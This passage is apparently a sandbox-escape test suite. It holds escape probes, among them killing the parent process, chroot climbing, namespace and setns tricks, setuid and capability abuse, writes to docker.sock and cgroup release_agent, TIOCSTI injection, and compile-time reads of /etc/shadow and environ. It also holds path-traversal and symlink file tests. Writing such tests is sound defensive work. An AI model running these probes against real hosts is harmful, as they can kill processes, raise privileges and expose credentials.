    held = [b"x" * (1 << 20) for _ in range(512)]
    verdict(len(held) == 512)
""",
    PYTHON,
    outcomes("memory_exceeded", "crashed"),
)

_add(
    "killing the parent or the server",
    "kill-in-bash",
    r"""
    count=0
    for folder in /proc/[0-9]*; do count=$((count + 1)); done
    if [ "$count" -gt 12 ]; then echo ESCAPED; exit 0; fi
    trap "" TERM INT HUP
    kill -KILL "$PPID" 2>/dev/null
    kill -TERM -1 2>/dev/null
    echo contained
""",
    BASH,
)

_add(
    "killing the parent or the server",
    "kill-in-a-call",
    r"""
    # As a function: the parent here may be the interpreter that other calls, or all runs, come from.
    import signal
    def answer():
        for number in (signal.SIGUSR1, signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            if len(others()) <= 12 and os.getppid() not in (0, os.getpid()):
                try:
                    os.kill(os.getppid(), number)
                except OSError:
                    pass
        return "contained"
""",
    reference={
        "type": "function",
        "entry_point": "answer",
        "cases": [{"args": [], "expected": ESCAPED}, {"args": [], "expected": ESCAPED}],
    },
)

# --- mount and pivot_root

_add(
    "mount and pivot_root",
    "mount-from-python",
    r"""
    os.makedirs("point", exist_ok=True)
    escaped = any((
        works(165, b"none", b"point", b"tmpfs", 0, 0), works(165, b"/", b"point", 0, 4096, 0),
        works(165, b"proc", b"point", b"proc", 0, 0), works(165, b"none", b"/", 0, 16384 | (1 << 18), 0),
        works(166, b"/proc", 2), works(155, b".", b"."), works(161, b".")))     # umount2, pivot_root, chroot
    verdict(escaped)
""",
)

_add(
    "mount and pivot_root",
    "mount-in-c",
    r"""
    int main(void) {
        mkdir("point", 0700);
        return verdict(works(mount("none", "point", "tmpfs", 0, 0)) || works(mount("/", "point", 0, MS_BIND, 0))
                       || works(mount(0, "/", 0, MS_REMOUNT | MS_BIND, 0)) || works(umount2("/proc", MNT_DETACH))
                       || works(syscall(SYS_pivot_root, ".", ".")) || works(chroot(".")));
    }
""",
    C,
)

_add(
    "mount and pivot_root",
    "mount-by-the-new-calls",
    r"""
    # open_tree, move_mount, fsopen, fsmount, fspick, mount_setattr.
    here = b"/"
    verdict(works(428, -100, here, 1) or works(429, -100, here, -100, here, 0) or works(430, b"tmpfs", 0)
            or works(432, -1, 0, 0) or works(433, -100, here, 0)
            or works(442, -100, here, 0, ctypes.create_string_buffer(32), 32))
""",
)

_add(
    "mount and pivot_root",
    "chroot-and-climb",
    r"""
    # The old way out of a chroot: another chroot below, and up from a descriptor kept outside.
    root = os.open("/", os.O_RDONLY)
    try:
        os.makedirs("inner", exist_ok=True)
        os.chroot("inner")
        os.fchdir(root)
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
        escaped = True
    except OSError:
        escaped = False
    verdict(escaped or leaks(read("/tmp/assay-test-secret")))
""",
)

_add(
    "mount and pivot_root",
    "mount-by-programs",
    r"""
    import shutil, subprocess
    escaped = False
    for command in (["mount", "-t", "tmpfs", "none", "."], ["fusermount", "-u", "/proc"], ["umount", "-l", "/proc"],
                    ["unshare", "-rm", "true"], ["nsenter", "-t", "1", "-a", "true"], ["chroot", ".", "true"],
                    ["bwrap", "--bind", "/", "/", "true"], ["newuidmap", "1", "0", "0", "1"],
                    ["capsh", "--uid=0", "--", "-c", "true"], ["setpriv", "--reuid=0", "true"]):
        program = shutil.which(command[0])
        if program:
            done = subprocess.run([program, *command[1:]], stdin=subprocess.DEVNULL, capture_output=True, timeout=2)
            escaped = escaped or done.returncode == 0
    verdict(escaped)
""",
)

_add(
    "mount and pivot_root",
    "quota-and-swap-and-handles",
    r"""
    # swapon, swapoff, quotactl, name_to_handle_at, open_by_handle_at, fanotify_init, lookup_dcookie.
    verdict(works(167, b"/x", 0) or works(168, b"/x") or works(179, 0x800001 << 8, 0, 0, 0)
            or works(304, -100, ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0" + bytes(120), 128), 0)
            or works(300, 4, 0) or works(212, 0, 0, 0))
""",
)

# --- nested user namespaces

_add(
    "nested user namespaces",
    "unshare-in-c",
    r"""
    int main(void) {
        int kinds[] = {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET, CLONE_NEWIPC, CLONE_NEWUTS,
                       CLONE_NEWCGROUP, 0x80, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET};
        int escaped = 0;
        for (int n = 0; n < 9; n++) escaped |= unshare(kinds[n]) == 0;
        return verdict(escaped);
    }
""",
    C,
)

_add(
    "nested user namespaces",
    "clone-in-c",
    r"""
    struct arguments { unsigned long long flags, rest[10]; };
    int main(void) {
        unsigned long kinds[] = {CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWPID,
                                 CLONE_NEWNET};
        for (int n = 0; n < 4; n++) {
            long pid = syscall(SYS_clone, kinds[n] | SIGCHLD, 0, 0, 0, 0);
            if (pid == 0) _exit(0);
            if (pid > 0) return verdict(1);
            struct arguments arguments = {.flags = kinds[n]};
            arguments.rest[3] = SIGCHLD;                /* exit_signal */
            pid = syscall(435, &arguments, 64);         /* clone3 */
            if (pid == 0) _exit(0);
            if (pid > 0) return verdict(1);
        }
        return verdict(0);
    }
""",
    C,
)

_add(
    "nested user namespaces",
    "unshare-from-python",
    r"""
    # Each namespace alone and all together, and the maps of the one it is in.
    kinds = (0x10000000, 0x10020000, 0x7E020000, 0x40000000, 0x20000000, 0x80)
    escaped = any(libc.unshare(kind) == 0 for kind in kinds)
    verdict(escaped or any(opens(f"/proc/self/{name}", os.O_WRONLY) and libc.unshare(0x10000000) == 0
                           for name in ("uid_map", "gid_map")))
""",
)

_add(
    "nested user namespaces",
    "setns-to-every-namespace",
    r"""
    escaped = False
    for pid in ["self", "1", *others()]:
        for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time", "pid_for_children"):
            try:
                descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            escaped = escaped or libc.setns(descriptor, 0) == 0
            for request in (0xB701, 0xB702):                    # NS_GET_USERNS, NS_GET_PARENT
                above = libc.ioctl(descriptor, ctypes.c_ulong(request))
                escaped = escaped or (above >= 0 and libc.setns(above, 0) == 0)
    verdict(escaped)
""",
)

_add(
    "nested user namespaces",
    "clone-after-a-fork",
    r"""
    # The filter and the rights must hold in children, and in what they execute.
    import subprocess
    code = "import ctypes; l = ctypes.CDLL(None); print(l.unshare(0x10000000), l.unshare(0x20000))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    pid = os.fork()
    if pid == 0:
        os.setsid()
        os._exit(7 if libc.unshare(0x10020000) == 0 else 0)
    verdict("0" in done.stdout.split() or os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7)
""",
)

# --- setuid binaries

_add(
    "setuid binaries",
    "setuid-that-would-count",
    r"""
    # A setuid file on a mount that honours it, for a process that may gain rights.
    gains = b"NoNewPrivs:\t0" in read("/proc/self/status")
    escaped = False
    for folder in ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/lib", "/usr/libexec", "/usr/local/bin"):
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            try:
                mode = entry.stat().st_mode
                if mode & (stat.S_ISUID | stat.S_ISGID) and entry.is_file():
                    escaped = escaped or (gains and not os.statvfs(entry.path).f_flag & os.ST_NOSUID)
            except OSError:
                pass
    verdict(escaped)
""",
)

_add(
    "setuid binaries",
    "setuid-run-and-looked-at",
    r"""
    # Runs what is setuid, and looks whom it runs as.
    import subprocess
    escaped, quiet = False, subprocess.DEVNULL
    for name in ("su", "sudo", "mount", "passwd", "newgrp", "chsh", "ping", "fusermount3", "pkexec"):
        path = f"/usr/bin/{name}"
        if not os.path.exists(path):
            continue
        try:
            child = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=quiet, stderr=quiet)
        except OSError:
            continue
        lines = read(f"/proc/{child.pid}/status").splitlines()
        users = [line.split()[1:5] for line in lines if line.startswith(b"Uid:")]
        rights = [int(line.split()[1], 16) for line in lines if line.startswith(b"CapEff:")]
        escaped = escaped or any(b"0" in user for user in users) or any(rights)
        child.kill()
        child.wait()
    verdict(escaped)
""",
)

_add(
    "setuid binaries",
    "setuid-of-its-own",
    r"""
    # A copy of a program, with the bits and another owner.
    import shutil
    shutil.copy(shutil.which("true") or sys.executable, "copy")
    escaped = False
    for user, group in ((0, 0), (0, -1), (-1, 0), (65534, 65534)):
        try:
            os.chown("copy", user, group)
            escaped = True
        except OSError:
            pass
    try:
        os.chmod("copy", 0o6755)
        os.setxattr("copy", "security.capability", bytes.fromhex("0100000200e0ff1f0000000000000000000000000000"[:40]))
        escaped = True
    except OSError:
        pass
    verdict(escaped)
""",
)

_add(
    "setuid binaries",
    "setuid-in-c",
    r"""
    int main(void) {
        setuid(0); seteuid(0); setgid(0);
        setresuid(0, 0, 0);
        prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0);
        prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
        return verdict(getuid() == 0 || geteuid() == 0 || prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1);
    }
""",
    C,
)

# --- keyctl, bpf, io_uring, perf, userfaultfd

_add(
    "keyctl, bpf, io_uring, perf, userfaultfd",
    "surfaces-in-c",
    r"""
    int main(void) {
        char zeros[256] = {0};
        return verdict(works(syscall(SYS_keyctl, 0, -3, 0, 0, 0))               /* KEYCTL_GET_KEYRING_ID, session */
                       || works(syscall(SYS_add_key, "user", "assay", "x", 1, -2))
                       || works(syscall(SYS_request_key, "user", "assay", 0, 0))
                       || works(syscall(SYS_bpf, 0, zeros, sizeof zeros))
                       || works(syscall(SYS_perf_event_open, zeros, 0, -1, -1, 0))
                       || works(syscall(SYS_userfaultfd, O_CLOEXEC)) || works(syscall(SYS_userfaultfd, 1)));
    }
""",
    C,
)

_add(
    "keyctl, bpf, io_uring, perf, userfaultfd",
    "io-uring-in-c",
    r"""
    int main(void) {
        char parameters[120] = {0};
        return verdict(works(syscall(425, 1, parameters)) || works(syscall(426, -1, 0, 0, 0, 0, 0))
                       || works(syscall(427, -1, 0, 0, 0)));
    }
""",
    C,
)

_add(
    "keyctl, bpf, io_uring, perf, userfaultfd",
    "surfaces-from-python",
    r"""
    zeros = ctypes.create_string_buffer(256)
    calls = {
        "add_key": (248, b"user", b"assay", b"x", 1, -4), "request_key": (249, b"user", b"assay", 0, 0),
        "keyctl": (250, 0, -4, 0, 0, 0), "bpf": (321, 5, zeros, 120), "perf_event_open": (298, zeros, 0, -1, -1, 0),
        "userfaultfd": (323, 1), "io_uring_setup": (425, 4, zeros), "io_uring_register": (427, -1, 0, 0, 0),
    }
    verdict(any(works(*call) for call in calls.values()))
""",
)

_add(
    "keyctl, bpf, io_uring, perf, userfaultfd",
    "modules-and-machines",
    r"""
    # kexec_load, init_module, finit_module, delete_module, iopl, ioperm, acct, reboot, settimeofday, sethostname,
    # setdomainname, kexec_file_load: with arguments that whoever has the right to call them is told are wrong.
    zeros = ctypes.create_string_buffer(256)
    calls = [(246, 0, 99, 0, 0x7FFF), (175, zeros, 8, b""), (313, -1, b"", 0), (176, b"assay-no-such-module", 2048),
             (172, 3), (173, 0x80, 1, 1), (163, b"/assay/no/such"), (169, 1, 2, 3, 0), (164, 0, 0),
             (170, zeros, 200), (171, zeros, 200), (320, -1, -1, 0, b"", 0)]
    verdict(any(works(*call) for call in calls))
""",
)

_add(
    "keyctl, bpf, io_uring, perf, userfaultfd",
    "personality-and-memory-tricks",
    r"""
    # personality (no address randomisation, readable means executable), modify_ldt, and calls of old.
    verdict(works(135, 0x0040000) or works(135, 0x0400000) or works(154, 1, ctypes.create_string_buffer(16), 16)
            or works(156, 0) or works(174, 0, 0) or works(256, 0, 0, 0, 0))
""",
)

_add(
    "keyctl, bpf, io_uring, perf, userfaultfd",
    "terminal-and-message-tricks",
    r"""
    # TIOCSTI types into the terminal that the service may have been started from.
    import fcntl
    escaped = False
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0", "/proc/self/fd/2"):
        try:
            descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        for request in (0x5412, 0x541C):
            try:
                fcntl.ioctl(descriptor, request, b"\n")
                escaped = True
            except OSError:
                pass
    verdict(escaped)
""",
)

# --- 32-bit and x32 system calls

_add(
    "32-bit and x32 system calls",
    "int-80-in-c",
    r"""
    int main(void) {
    #if defined(__x86_64__)
        long result;
        /* getpid, unshare(CLONE_NEWUSER), ptrace(PTRACE_TRACEME) by their 32-bit numbers */
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory", "r8", "r9", "r10", "r11");
        if (result > 0) return verdict(1);
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(310L), "b"(0x10000000L)
                         : "memory", "r8", "r9", "r10", "r11");
        if (result == 0) return verdict(1);
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(26L), "b"(0L), "c"(0L), "d"(0L), "S"(0L)
                         : "memory", "r8", "r9", "r10", "r11");
        if (result == 0) return verdict(1);
    #endif
        return verdict(0);
    }
""",
    C,
)

_add(
    "32-bit and x32 system calls",
    "x32-in-c",
    r"""
    #define X32 0x40000000L
    int main(void) {
    #if defined(__x86_64__)
        if (syscall(X32 + 39) > 0 || syscall(X32 + 102) >= 0) return verdict(1);        /* getpid, getuid */
        if (works(syscall(X32 + 272, 0x10000000L)) || works(syscall(X32 + 521, 0, 0, 0, 0))) return verdict(1);
    #endif
        return verdict(0);
    }
""",
    C,
)

_add(
    "32-bit and x32 system calls",
    "int-80-as-bytes-from-python",
    r"""
    # mov eax, 20; int 0x80; ret
    import mmap
    escaped = False
    if platform.machine() == "x86_64":
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(b"\xb8\x14\0\0\0\xcd\x80\xc3")
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        escaped = ctypes.CFUNCTYPE(ctypes.c_int)(address)() > 0
    verdict(escaped)
    os._exit(0)
""",
)

_add(
    "32-bit and x32 system calls",
    "x32-from-python",
    r"""
    # The x32 numbers of calls that the filter refuses: unshare, mount, ptrace, keyctl, io_uring_setup; and some that
    # no kernel knows.
    numbers = (39, 272, 165, 521, 250, 425, 520, 512)
    verdict(any(works((1 << 30) + number, 0, 0, 0, 0, 0) for number in numbers))
""",
)

_add(
    "32-bit and x32 system calls",
    "a-32-bit-program-by-hand",
    r"""
    # A 32-bit ELF of 100 bytes: write(1, "ESCAPED\n", 8); exit(0).
    code = bytes.fromhex("b804000000" "bb01000000" "b97e800408" "ba08000000" "cd80" "b801000000" "31db" "cd80")
    header = bytes.fromhex("7f454c46010101000000000000000000" "0200" "0300" "01000000" "54800408" "34000000"
                           "00000000" "00000000" "3400" "2000" "0100" "0000" "0000" "0000")
    text = b"ESCAPED\n"
    size = 0x54 + 42 + len(text)
    segment = (1, 0, 0x08048000, 0x08048000, size, size, 5, 0x1000)
    program = header + b"".join(number.to_bytes(4, "little") for number in segment)
    body = code.ljust(42, b"\x90") + text
    with open("small", "wb") as file:
        file.write(program + body)
    os.chmod("small", 0o755)
    try:
        os.execv("./small", ["small"])
    except OSError:
        verdict(False)
""",
)

# --- docker.sock

_add(
    "docker.sock",
    "docker-socket-by-name",
    r"""
    escaped = False
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                 "/run/podman/podman.sock", "/run/crio/crio.sock", "/run/dbus/system_bus_socket",
                 "/run/systemd/private", "/run/systemd/notify",
                 "/run/user/0/docker.sock", "/proc/1/root/run/docker.sock", "/run/snapd.socket", "/dev/log"):
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(path)
                escaped = True
        except OSError as error:
            escaped = escaped or error.errno == errno.EPROTOTYPE
    verdict(escaped)
""",
)

_add(
    "docker.sock",
    "docker-socket-by-search",
    r"""
    # Any socket in the file system at all.
    escaped = False
    for root in ("/run", "/var/run", "/tmp", "/var/tmp", "/dev", "/var/lib", "/home", "/opt", "/srv", "/mnt"):
        for folder, _, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    escaped = escaped or stat.S_ISSOCK(os.lstat(path).st_mode)
                except OSError:
                    pass
    verdict(escaped)
""",
)

_add(
    "docker.sock",
    "docker-socket-in-c",
    r"""
    int main(void) {
        const char *paths[] = {"/var/run/docker.sock", "/run/docker.sock", "/proc/self/root/run/docker.sock",
                               "/docker.sock"};
        for (int n = 0; n < 4; n++) {
            struct sockaddr_un address = {.sun_family = AF_UNIX};
            strcpy(address.sun_path, paths[n]);
            int fd = socket(AF_UNIX, SOCK_STREAM, 0);
            if (fd >= 0 && connect(fd, (struct sockaddr *) &address, sizeof address) == 0) return verdict(1);
            if (access(paths[n], F_OK) == 0) return verdict(1);
        }
        return verdict(0);
    }
""",
    C,
)

_add(
    "docker.sock",
    "docker-by-tcp",
    r"""
    escaped = False
    for host in ("127.0.0.1", "172.17.0.1", "localhost"):
        for port in (2375, 2376):
            try:
                socket.create_connection((host, port), timeout=0.2).close()
                escaped = True
            except OSError:
                pass
    verdict(escaped or bool(os.environ.get("DOCKER_HOST")))
""",
)

# --- cgroup release_agent

_add(
    "cgroup release_agent",
    "release-agent-opened",
    r"""
    import glob
    names = ("release_agent", "*/release_agent", "notify_on_release", "*/notify_on_release", "cgroup.procs",
             "*/cgroup.procs", "*/*/cgroup.procs", "*/tasks", "*/memory.limit_in_bytes", "*/*/memory.max",
             "memory.max", "pids.max", "*/pids.max", "*/devices.allow", "cpu.max", "cgroup.subtree_control")
    paths = [path for name in names for path in glob.glob("/sys/fs/cgroup/" + name)]
    verdict(any(opens(path, os.O_WRONLY) for path in paths))
""",
)

_add(
    "cgroup release_agent",
    "cgroup-made",
    r"""
    escaped = False
    try:
        folders = ["/sys/fs/cgroup", *(entry.path for entry in os.scandir("/sys/fs/cgroup") if entry.is_dir())]
    except OSError:
        folders = []
    for folder in folders:
        try:
            os.mkdir(f"{folder}/assay-test")
            os.rmdir(f"{folder}/assay-test")
            escaped = True
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "cgroup release_agent",
    "cgroup-mounted-in-c",
    r"""
    int main(void) {
        mkdir("groups", 0700);
        int escaped = works(mount("cgroup", "groups", "cgroup", 0, "memory"))
                      || works(mount("cgroup", "groups", "cgroup", 0, "rdma"))
                      || works(mount("none", "groups", "cgroup2", 0, 0));
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0) escaped = 1;
        return verdict(escaped);
    }
""",
    C,
)

_add(
    "cgroup release_agent",
    "cgroup-of-its-own-left",
    r"""
    # Its own group by /proc/self/cgroup: left for the root, or its limits raised.
    escaped = False
    for line in read("/proc/self/cgroup").decode().splitlines():
        _, controllers, path = line.split(":", 2)
        for name in (controllers, controllers.split(",")[0], ""):
            base = f"/sys/fs/cgroup/{name}"
            for where in (path, "", "/.."):
                escaped = escaped or opens(f"{base}{where}/cgroup.procs", os.O_WRONLY)
                escaped = escaped or opens(f"{base}{where}/memory.limit_in_bytes", os.O_WRONLY)
                escaped = escaped or opens(f"{base}{where}/memory.max", os.O_WRONLY)
    verdict(escaped)
""",
)

# --- compile-time file reads


def _read_by_compiler(name: str, code: str, language: str) -> None:
    _add("compile-time file reads", name, code, language, NOT_COMPILED, tools=False)


_read_by_compiler(
    "include-a-secret",
    r"""
    #include <stdio.h>
    #include <string.h>
    static const char *secret =
    #include "/tmp/assay-test-secret"
    ;
    int main(void) { puts(strstr(secret, "assay-file-secret") ? "ESCAPED" : "contained"); return 0; }
""",
    C,
)

_read_by_compiler(
    "include-a-secret-if-it-is-there",
    r"""
    #include <cstdio>
    static const char *secret =
    #if __has_include("/var/tmp/assay-test-secret")
    #include "/var/tmp/assay-test-secret"
    #elif __has_include("/dev/shm/assay-test-secret")
    #include "/dev/shm/assay-test-secret"
    #elif __has_include("/proc/self/root/tmp/assay-test-secret")
    #include "/proc/self/root/tmp/assay-test-secret"
    #elif __has_include("../../../../../../tmp/assay-test-secret")
    #include "../../../../../../tmp/assay-test-secret"
    #else
    0
    #endif
    ;
    int main() { std::puts(secret ? "ESCAPED" : "contained"); }
""",
    CPP,
)

_read_by_compiler(
    "include-an-environment",
    r"""
    #include </proc/self/environ>
    #include "/proc/1/environ"
    int main(void) { return 0; }
""",
    C,
)

_read_by_compiler(
    "include-passwords",
    r"""
    #include "/etc/passwd"
    #include "/etc/shadow"
    int main() { return 0; }
""",
    CPP,
)

_read_by_compiler(
    "incbin-a-secret",
    r"""
    #include <stdio.h>
    __asm__(".section .rodata\n.global secret\nsecret:\n.incbin \"/tmp/assay-test-secret\"\n.byte 0\n.text\n");
    extern const char secret[];
    int main(void) { puts(secret[0] == '"' ? "ESCAPED" : "contained"); return 0; }
""",
    C,
)

_read_by_compiler(
    "incbin-shadow-passwords",
    r"""
    #include <cstdio>
    __asm__(".section .rodata\n.global shadow\nshadow:\n.incbin \"/etc/shadow\"\n.byte 0\n.text\n");
    extern "C" const char shadow[];
    int main() { std::puts(shadow[0] ? "ESCAPED" : "contained"); }
""",
    CPP,
)

_read_by_compiler(
    "assembler-include",
    r"""
    __asm__(".include \"/proc/self/environ\"\n.include \"/var/tmp/assay-test-secret\"\n");
    int main(void) { return 0; }
""",
    C,
)

_read_by_compiler(
    "rust-include-str",
    r"""
    fn main() {
        let secret = include_str!("/tmp/assay-test-secret");
        println!("{}", if secret.contains("assay-file-secret") { "ESCAPED" } else { "contained" });
    }
""",
    RUST,
)

_read_by_compiler(
    "rust-environment-at-compile-time",
    r"""
    fn main() {
        println!("{}", if option_env!("ASSAY_TEST_SECRET").is_some() { "ESCAPED" } else { "contained" });
    }
""",
    RUST,
)

_read_by_compiler(
    "require-a-secret",
    r"""
    let found = "";
    for (const name of ["/tmp/assay-test-secret", "/proc/self/environ", "../../../tmp/assay-test-secret"]) {
        try { require(name); } catch (error) { found += error.message + error.stack; }
    }
    const leaks = ["assay-file-", "assay-env-"].some((start) => found.includes(start + "secret-"));
    console.log(leaks ? "ESCAPED" : "contained");
""",
    JAVASCRIPT,
)

# --- files that go out

_SECRETS = (SECRET_ENV[1].encode(), SECRET_FILE.strip().encode(), b"root:")


def _fetch(name: str, code: str, assertion: str, *names: str, absent: bool = True, refusable: bool = False) -> None:
    FETCHES.append(
        Fetch(
            name=name,
            line="special file as a fetched output",
            code=source(code),
            assertion=assertion,
            fetch=names,
            absent=names if absent else (),
            never=_SECRETS,
            refusable=refusable,
        )
    )


_fetch(
    "fetch-symlinks",
    r"""
    import os
    os.symlink("/etc/passwd", "one")
    os.symlink("/tmp/assay-test-secret", "two")
    os.symlink("/proc/self/environ", "three")
    os.symlink("../../../../../../etc/passwd", "four")
    os.symlink("five", "five")
""",
    "A symlink is no file: none comes back, whether it is followed inside or outside.",
    "one",
    "two",
    "three",
    "four",
    "five",
)

_fetch(
    "fetch-through-a-linked-folder",
    r"""
    import os
    os.symlink("/etc", "etc")
    os.symlink("/proc/self", "me")
    os.symlink("..", "up")
""",
    "No component of the path may be a link.",
    "etc/passwd",
    "me/environ",
    "up/../../etc/passwd",
)

_fetch(
    "fetch-hardlinks",
    r"""
    import os
    paths = {"one": "/etc/passwd", "two": "/proc/self/environ", "three": os.__file__, "four": "/dev/null"}
    for name, path in paths.items():
        try:
            os.link(path, name)
        except OSError:
            pass
""",
    "Files elsewhere cannot be linked to; what was not made does not come back.",
    "one",
    "two",
    "three",
    "four",
)

_fetch(
    "fetch-a-fifo",
    r"""
    import os
    os.mkfifo("fifo")
    os.mkfifo("held")
    os.open("held", os.O_RDWR)
""",
    "Reading a FIFO must not be waited for.",
    "fifo",
    "held",
)

_fetch(
    "fetch-a-fifo-with-a-writer",
    r"""
    # A child opens the FIFO and writes for as long as it lives.
    import os
    os.mkfifo("fifo")
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 3)
        writer = os.open("fifo", os.O_RDWR)
        for _ in range(1 << 20):
            os.write(writer, b"x" * 4096)
""",
    "The reply is neither late nor large.",
    "fifo",
)

_fetch(
    "fetch-devices",
    r"""
    import os, stat
    os.symlink("/dev/zero", "zero")
    os.symlink("/dev/random", "random")
    for name, kind, *number in (("memory", stat.S_IFCHR, 1, 1), ("endless", stat.S_IFCHR, 1, 5),
                                ("disk", stat.S_IFBLK, 8, 0)):
        try:
            os.mknod(name, kind | 0o666, os.makedev(*number))
        except OSError:
            pass
""",
    "No device comes back, endless or not.",
    "zero",
    "random",
    "memory",
    "endless",
    "disk",
)

_fetch(
    "fetch-sockets-and-folders",
    r"""
    import os, socket
    socket.socket(socket.AF_UNIX).bind("socket")
    os.makedirs("folder/inner")
    open("folder/inner/file", "w").close()
""",
    "Only regular files come back.",
    "socket",
    "folder",
    "folder/inner",
)

_fetch(
    "fetch-outside",
    r"""
    print("nothing to see")
""",
    "Names that lead out of the working folder are refused, or bring nothing.",
    "../../etc/passwd",
    "/etc/passwd",
    "/proc/self/environ",
    "/tmp/assay-test-secret",
    "a/../../../etc/passwd",
    ".",
    "",
    refusable=True,
)

_fetch(
    "fetch-a-file-that-is-swapped",
    r"""
    # The name is a file at one moment and a link at the next, also while it is fetched, if a child lives so long.
    import os
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 3)
        os.symlink("/etc/passwd", "link")
        for _ in range(1 << 20):
            with open("file", "w") as file:
                file.write("harmless")
            os.rename("file", "out")
            os.symlink("/etc/passwd", "other")
            os.rename("other", "out")
""",
    "Nothing of where the link leads comes back.",
    "out",
    absent=False,
)

_fetch(
    "fetch-a-huge-sparse-file",
    r"""
    import os
    for size in range(44, 20, -1):
        try:
            os.truncate(os.open("out", os.O_CREAT | os.O_RDWR), 1 << size)
            break
        except OSError:
            pass
""",
    "The reply is neither late nor larger than what `disk_mb` allows of files.",
    "out",
    absent=False,
)

_fetch(
    "fetch-a-file-that-nobody-may-read",
    r"""
    import os
    with open("out", "w") as file:
        file.write("hidden")
    os.chmod("out", 0)
    os.makedirs("folder")
    with open("folder/out", "w") as file:
        file.write("hidden")
    os.chmod("folder", 0)
""",
    "The reply comes, with the file or without.",
    "out",
    "folder/out",
    absent=False,
)

_fetch(
    "fetch-a-replaced-working-folder",
    r"""
    import os, shutil
    here = os.getcwd()
    os.chdir("/")
    try:
        shutil.rmtree(here)
    except OSError:
        pass
    try:
        os.symlink("/etc", here)
    except OSError:
        pass
""",
    "A working folder that has become a link leads nowhere.",
    "passwd",
)

# --- files that come in

BAD_PATHS = (
    "../escape.txt",
    "../../../../../../../../tmp/assay-test-pwned",
    "a/../../escape.txt",
    "a/b/../../../escape.txt",
    PWNED_FILE,
    "/etc/ld.so.preload",
    "//tmp/assay-test-pwned",
    "..",
    ".",
    "",
    "/",
    "a/",
    "nul\0byte.txt",
    "a" * 300,
    "/".join(["d" * 100] * 60),
    "../" * 2000 + "tmp/assay-test-pwned",
)
"""Names that no file may have."""

for _number, _path in enumerate(BAD_PATHS):
    FETCHES.append(
        Fetch(
            name=f"input-file-{_number}",
            line="../ and absolute paths in input files",
            code=source(r"""
                import os
                for folder, folders, names in os.walk("."):
                    print(folder, names)
                print(os.path.exists("../escape.txt"), os.path.exists("/etc/ld.so.preload"))
            """),
            assertion="The call is refused, or the file lies nowhere but in the working folder.",
            files={_path: b"planted\n", "good.txt": b"good\n"},
            never=(*_SECRETS, b"True"),
            refusable=True,
        )
    )

FETCHES += [
    Fetch(
        name="input-file-and-folder-of-one-name",
        line="../ and absolute paths in input files",
        code="import os\nprint(sorted(os.listdir('.')))\n",
        assertion="Refused, or one of them wins; the cell lives on.",
        files={"a": b"1", "a/b": b"2", "a/b/c": b"3"},
        never=_SECRETS,
        refusable=True,
    ),
    Fetch(
        name="input-file-behind-a-link-of-an-earlier-run",
        line="../ and absolute paths in input files",
        code="import os\nos.rename('a', 'b')\nos.symlink('/tmp', 'a')\nprint(open('b/assay-test-pwned').read())\n",
        assertion="A second call with the same files finds a folder `a` and no link.",
        files={"a/assay-test-pwned": b"planted\n"},
        fetch=("a/assay-test-pwned",),
        absent=("a/assay-test-pwned",),
        never=_SECRETS,
    ),
]
